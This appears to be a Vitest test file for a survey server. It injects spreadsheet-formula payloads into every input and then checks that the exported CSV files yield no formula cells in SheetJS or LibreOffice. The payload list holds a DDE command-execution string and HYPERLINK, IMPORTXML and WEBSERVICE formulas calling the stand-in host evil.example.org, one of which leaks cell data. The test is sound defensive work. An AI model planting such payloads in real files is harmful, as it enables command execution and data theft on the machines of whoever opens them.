// Formulas sent through every input, and every CSV file that the server writes: read by SheetJS, and by LibreOffice
// where it is installed. No cell may be a formula.
import { execFile } from 'node:child_process';
import { access, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { read } from '@e965/xlsx';
import { type Call, calls } from '@survey/contract';
import { strFromU8, unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { setUpTestServer } from '../testing/fixture.ts';
import { readCsv } from '../testing/read-csv.ts';
import { picture, submissionFields, submit } from '../testing/submissions.ts';

const dde = "cmd|' /C calc'!A0";
const payloads = [
  ...['=1+1', '+1+1', '-1+1', '@SUM(1+1)', '=1+1;=2+2', '\t=1+1', '\r=1+1', '\n=1+1', '  =1+1'],
  ...['"=1+1"', '"=1+1', "'=1+1", '\u00a0=1+1', '＝1+1', '＋1+1', '－1+1', '＠SUM(1+1)'],
  ...[`=${dde}`, `+${dde}`, `-${dde}`, `@SUM(${dde})`, `;=${dde}`, `x;=${dde};y`, `x\t=${dde}`],
  ...['x;"=1+1"', 'x;""=1+1', 'x\n=1+1', 'x\r\n=1+1', 'x",=1+1', 'x","=1+1', '",=1+1,"', '=1+1,'],
  ...[
    '=HYPERLINK("https://evil.example.org/?"&A1,"click")',
    '=IMPORTXML("https://evil.example.org")',
  ],
  ...['=WEBSERVICE("https://evil.example.org")', '%0A=1+1', '=\u00a01+1', '={1+1}', '{=1+1}'],
  ...['=1+1\u0000'.slice(0, 4), '-2+3+cmd', '+923001234567', '-5'],
];

const server = setUpTestServer();
let folder: string;
/** Texts by file name. */
const files = new Map<string, string>();
beforeAll(async () => {
  folder = await mkdtemp(path.join(os.tmpdir(), 'survey-formulas-'));
  const { token } = server.administrator;
  for (const [index, payload] of payloads.entries()) {
    const ali = await server.addSurveyor(`ali${index}`, { name: payload });
    await server.database.db
      .updateTable('users')
      .set({ phonenumber: payload, username: `${payload} ${index}` })
      .where('id', '=', ali.id)
      .execute();
    const given = { circle: payload, pin: payload, land: payload, info: payload, other: payload };
    const answer = await submit(
      server,
      ali.token,
      submissionFields({ ...given, comments: payload }),
      ...(index < 3 ? [await picture()] : []),
    );
    expect([payload, answer.status]).toEqual([payload, 200]);
    await server.call(
      calls.addPin,
      {
        body: {
          username: `${payload} ${index}`,
          ...given,
          ratingarea: payload,
          Locality: payload,
          Street_Address: payload,
          OwnerName: payload,
        },
      },
      token,
    );
  }
  const download = async (call: Call) =>
    (
      await server.app.inject({
        method: call.method,
        url: call.path,
        headers: { authorization: `Bearer ${token}`, accept: 'text/csv, application/zip' },
      })
    ).rawPayload;
  files.set('reports.csv', (await download(calls.allReportsExport)).toString());
  files.set('activity.csv', (await download(calls.activityExport)).toString());
  const zip = unzipSync(new Uint8Array(await download(calls.reportPhotosZip)));
  for (const [name, bytes] of Object.entries(zip)) {
    if (name.endsWith('.csv')) files.set('photos.csv', strFromU8(bytes));
  }
});
afterAll(async () => {
  await rm(folder, { recursive: true, force: true });
});

/** A negative number is no formula. */
const isNumber = (cell: string) => /^-?\d+(\.\d+)?$/.test(cell);
const runs = (cell: string) => /^[\s"]*[=+\-@＝＋－＠]/.test(cell) && !isNumber(cell);

describe.each(['reports.csv', 'activity.csv', 'photos.csv'])('%s', (name) => {
  const text = () => files.get(name)?.replace(/^\ufeff/, '') ?? '';

  test('holds the payloads, and no cell begins as a formula does', () => {
    const cells = readCsv(text()).flat();
    expect(cells.some((cell) => cell.includes('1+1'))).toBe(true);
    expect(cells.filter(runs)).toEqual([]);
  });

  test.each([
    ';',
    '\t',
  ])('split at %j, as other locales and settings do, no part begins as one either', (separator) => {
    const parts = text()
      .split(/\r\n|\n|\r/)
      .flatMap((line) => line.split(separator));
    const found = parts.filter((part) => runs(part.replace(/^[\s"]+/, '')) && part.includes('1+1'));
    expect(found).toEqual([]);
  });
});

test.each([
  ',',
  ';',
  '\t',
])('read by SheetJS with %j between cells, no cell is a formula', (separator) => {
  const formulasIn = (text: string) => {
    const book = read(text, { type: 'string', cellFormula: true, FS: separator });
    const cells = Object.values(book.Sheets).flatMap((sheet) => Object.entries(sheet));
    expect(cells.length).toBeGreaterThan(2);
    return cells.filter(([, cell]) => typeof cell === 'object' && 'f' in cell && cell.f);
  };
  // Shows that the check recognises formulas.
  expect(formulasIn(`a${separator}b\r\n1${separator}=1+1\r\n`)).toHaveLength(1);
  for (const [name, text] of files) {
    if (name !== 'control.csv') expect([name, formulasIn(text)]).toEqual([name, []]);
  }
});

const soffice = ['/usr/bin/soffice', '/usr/bin/libreoffice', '/usr/local/bin/soffice'];
const findOffice = async (): Promise<string | undefined> => {
  for (const file of soffice) {
    if (
      await access(file).then(
        () => true,
        () => false,
      )
    )
      return file;
  }
  return undefined;
};

/** Separators as LibreOffice names them: the comma alone; comma, semicolon and tab, its dialog's own choice. */
const separators = { comma: '44', every: '44/59/9', semicolon: '59' };

test('opened in LibreOffice and asked to run formulas, no cell is one', {
  timeout: 240_000,
}, async ({ annotate }) => {
  const office = await findOffice();
  if (!office) {
    await annotate('LibreOffice is not installed: our own reader and SheetJS read the files.');
    return;
  }
  // Shows that the settings find formulas at all.
  files.set('control.csv', 'a\r\n=1+1\r\n');
  let sheets = 0;
  for (const [separator, codes] of Object.entries(separators)) {
    for (const [name, text] of files)
      await writeFile(path.join(folder, `${separator}-${name}`), text);
    const names = [...files.keys()].map((name) => path.join(folder, `${separator}-${name}`));
    // The riskiest settings: detect numbers, trim cells, evaluate formulas.
    const filter = `CSV:${codes},34,76,1,,0,false,true,false,false,true,-1,true`;
    await promisify(execFile)(
      office,
      [
        `-env:UserInstallation=file://${folder}/profile`,
        '--headless',
        `--infilter=${filter}`,
        '--convert-to',
        'xlsx',
        '--outdir',
        folder,
        ...names,
      ],
      { timeout: 200_000 },
    );
    for (const name of names) {
      const book = read(await readFile(name.replace(/csv$/, 'xlsx')), { cellFormula: true });
      const cells = Object.values(book.Sheets).flatMap((sheet) => Object.entries(sheet));
      const formulas = cells.filter(
        ([, cell]) => typeof cell === 'object' && 'f' in cell && cell.f,
      );
      const found = formulas.map(([at, cell]) => [path.basename(name), at, cell.f]);
      if (name.endsWith('control.csv')) expect(found).toHaveLength(1);
      else expect(found).toEqual([]);
      expect(cells.length).toBeGreaterThan(2);
      sheets += 1;
    }
  }
  expect(sheets).toBe(12);
});
